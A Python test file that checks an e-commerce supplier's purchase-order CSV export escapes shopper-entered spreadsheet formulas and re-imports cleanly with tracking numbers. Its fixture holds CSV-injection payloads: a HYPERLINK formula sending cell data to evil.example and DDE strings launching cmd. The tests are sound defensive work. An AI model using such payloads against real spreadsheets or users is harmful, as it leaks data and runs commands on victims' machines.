"""The supplier's purchase-order CSV: what shoppers typed can never run as a spreadsheet
formula, and the exported file, with tracking numbers added, uploads back."""

from __future__ import annotations

import csv
import io

from app.orders.cart import build_cart, line_key
from app.orders.fulfilment import purchase_orders_of, route_order
from app.orders.services import CustomerDetails, place_order
from app.shops.pricing import PriceRule
from app.shops.services import add_listing
from app.tenancy import use_shop
from tests.factories import make_product
from tests.supplier.helpers import member_of, purchase_order

ATTACKER = CustomerDetails(
    name='=HYPERLINK("http://evil.example/?"&A1,"Ada")', email="ada@example.com", phone="+1 555 0100 200",
    line1="-2+3+cmd|' /C calc'!A0", line2="@SUM(1+1)*cmd|' /C calc'!A0", city="+Springfield",
    region="=1+1", postcode="12345", country="US")


def _purchase_order(shop_a, catalog) -> int:
    """A purchase order from shop A, by a shopper typing formulas, of a product whose SKU
    starts with '-'; its id."""
    product = make_product(catalog.supplier, title="-Minus Tee",
                           variants=[{"sku": "-TEE-1", "wholesale": 800, "min_retail": 1000, "stock": 5}])
    with use_shop(shop_a.shop.id):
        listing = add_listing(shop_a.shop, product.id, rule=PriceRule("markup", 5000), title="-Minus Tee")
        variant = product.variants[0]
        cart = build_cart({line_key(listing.id, variant.id): 2}, shop_a.shop.currency)
        order = place_order(shop_a.shop, cart, ATTACKER)
        route_order(order)  # (already routed when the order was placed, jobs running inline)
        [po] = purchase_orders_of(order)
        return po.id


def _export(client):
    response = client.get("/supplier/purchase-orders.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_formulas_typed_by_a_shopper_are_exported_as_text(client, login, shop_a, catalog):
    _purchase_order(shop_a, catalog)
    login(member_of(catalog.supplier))
    [row] = [row for row in _export(client) if row["sku"] == "'-TEE-1"]
    assert row["ship_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Ada")'
    assert row["ship_line1"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["ship_line2"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (row["ship_city"], row["ship_region"], row["ship_phone"]) == ("'+Springfield", "'=1+1", "'+1 555 0100 200")
    assert row["title"] == "'-Minus Tee" and row["quantity"] == "2" and row["ship_postcode"] == "12345"
    for row in _export(client):
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_the_exported_file_with_tracking_numbers_uploads_back(client, login, shop_a, catalog):
    po_id = _purchase_order(shop_a, catalog)
    login(member_of(catalog.supplier))
    rows = [row for row in _export(client) if row["ship_name"].startswith("'=HYPERLINK")]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[*rows[0].keys(), "carrier", "tracking_number"])
    writer.writeheader()  # the supplier's spreadsheet keeps every exported column
    for number, row in enumerate(rows):
        writer.writerow({**row, "carrier": "UPS", "tracking_number": f"1Z{number}"})
    response = client.post("/supplier/shipments/upload", data={"file": (io.BytesIO(out.getvalue().encode()), "s.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)
    po = purchase_order(po_id)
    assert po.status == "shipped" and [(line.sku, line.tracking_number) for line in po.lines] == [("-TEE-1", "1Z0")]
